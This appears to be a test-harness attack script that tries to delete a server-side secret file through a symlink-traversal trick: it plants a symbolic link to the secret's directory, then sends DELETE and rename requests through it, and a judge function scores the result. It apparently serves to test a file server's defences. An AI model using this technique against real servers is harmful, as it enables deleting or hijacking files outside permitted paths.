# aim: remove a file of the server's machine
# mechanism: a symbolic link to a directory, of which the server removes something
# server: files
# plain: naive

def attack():
    run(f"import os\nos.symlink({secret_path.rpartition('/')[0]!r}, 'way')")
    ask("DELETE", f"{here}/files?path=way/secret")
    ask("POST", f"{here}/files/rename", {"old": "way/secret", "new": "mine"})


judge(attack)
